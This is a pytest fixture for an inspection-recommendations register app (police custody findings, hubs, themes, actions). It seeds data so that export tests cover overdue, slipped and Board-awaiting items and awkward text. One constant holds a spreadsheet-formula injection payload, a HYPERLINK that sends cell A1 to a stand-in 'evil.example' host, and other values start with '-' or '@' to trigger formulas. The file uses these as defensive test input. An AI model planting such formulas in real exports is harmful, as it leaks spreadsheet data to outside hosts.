"""A small register built through the services, with every case the exports must show: overdue, slipped,
awaiting the Board, formula-like and over-long text, several hubs and themes, actions answering two items."""
from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

import pytest

from ol_desk.core.services import actions, recommendations, records
from tests.core.factories import (
    assigned_recommendation,
    hub_id,
    make_action,
    make_document,
    make_recommendation,
    theme_id,
)

ON = dt.date(2026, 6, 1)
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class Register:
    overdue_rec: int
    board_rec: int
    formula_rec: int
    long_rec: int
    nw_actions: list[int]
    nw_recs: list[int]


@pytest.fixture
def on(monkeypatch):
    monkeypatch.setenv("OL_DESK_TODAY", ON.isoformat())
    return ON


@pytest.fixture
def register(db, cpic, on) -> Register:
    with db.transaction() as s:
        nw, md = hub_id(s, "NW"), hub_id(s, "MD")
        overdue = assigned_recommendation(s, cpic, "NW", target_date=dt.date(2026, 3, 1))
        recommendations.set_target_date(s, cpic, overdue, dt.date(2026, 5, 1), "Awaiting new custody IT")
        recommendations.set_themes(s, cpic, overdue, [theme_id(s, "custody")])
        recommendations.run_command(s, cpic, overdue, "assign")
        recommendations.run_command(s, cpic, overdue, "start")
        doc = make_document(s, cpic, kind="hmicfrs", title="PEEL 2025: custody thematic", reference="PEEL-25",
                            date_issued=dt.date(2026, 5, 1))
        board = make_recommendation(s, cpic, doc, reference="R2", finding_type="recommendation",
                                    text="Supervisors should review every use of force form within 72 hours.",
                                    target_date=dt.date(2026, 9, 1))
        recommendations.set_hubs(s, cpic, board, [md, nw], md)
        for cmd in ("assign", "start", "deliver", "accept_evidence"):
            recommendations.run_command(s, cpic, board, cmd)
        formula = make_recommendation(s, cpic, doc, reference="R3", finding_type="recommendation",
                                      title="-2 officers short", text=FORMULA_TEXT,
                                      target_date=dt.date(2026, 6, 20))
        recommendations.set_hubs(s, cpic, formula, [nw], nw)
        long_rec = make_recommendation(s, cpic, doc, reference="R4", finding_type="area_for_improvement",
                                       text="Long text. " * 4000 + "\x07bell", target_date=dt.date(2027, 1, 1))
        a1 = make_action(s, cpic, [overdue, formula], reference="NW-001", hub_id=nw, due_date=dt.date(2026, 4, 1))
        a2 = make_action(s, cpic, [formula], reference="NW-002", title="@SUM(1+1) briefing", hub_id=nw,
                         due_date=dt.date(2026, 8, 1))
        a3 = make_action(s, cpic, [formula], reference="NW-003", title="Refresh custody training", hub_id=nw,
                         due_date=dt.date(2026, 7, 1))
        actions.run_command(s, cpic, a3, "start")
        records.add_update(s, cpic, action_id=a3, text="Half the team trained.", written_on=dt.date(2026, 5, 20))
        make_action(s, cpic, [board], reference="MD-001", hub_id=md, due_date=dt.date(2026, 5, 1))
    return Register(overdue, board, formula, long_rec, [a1, a2, a3], [overdue, formula])
